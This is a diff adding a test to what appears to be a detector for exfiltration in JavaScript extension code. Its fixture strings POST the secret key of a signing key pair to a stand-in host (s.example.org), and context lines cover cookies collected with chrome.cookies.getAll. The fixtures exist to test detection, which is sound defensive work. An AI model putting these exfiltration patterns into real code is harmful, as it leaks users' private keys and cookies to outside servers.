@@ -83,3 +83,12 @@ test('bad: cookies that a worker answers a message with go to a server that is n
   assert.equal(worst(page('{ at: location.host }; show(found.jar)'), { 'worker.js': worker }), 'nothing');
   assert.equal(worst(page('{ k: found.jar }'), { 'worker.js': worker.replace('chrome.cookies.getAll({ url: m.url }', 'chrome.tabs.query({ url: m.url }') }), 'nothing');
 });
+
+test('bad: the secret half of a pair that a library gave, by a method and its parameter, a map or a field; good: the public half, and what is no pair', () => {
+  const store = (sent: string, call = 'this.sync(pair)', made = 'lib.sign.keyPair.fromSecretKey(bytes)') => `const lib = require("./lib"); class Store { constructor() { this.pairs = new Map() } add(name, bytes) { const pair = ${made}; this.pairs.set(name, pair); this.last = pair; ${call} } sync(given) { fetch("https://s.example.org/k", { method: "POST", body: ${sent} }) } } exports.Store = Store;`;
+  for (const code of [store('encode(given.secretKey)'), store('encode(this.pairs.get("a").secretKey)', 'this.sync()'), store('encode(this.last.secretKey)', 'this.sync()')]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    store('encode(given.publicKey)'), store('encode(this.pairs.get("a").publicKey)', 'this.sync()'), store('given.secretKey.length'),
+    store('encode(given.secretKey)', 'this.sync(settings)'), store('encode(given.secretKey)', undefined, 'lib.clients.open(bytes)'),
+  ]) assert.equal(worst(code), 'nothing', code);
+});
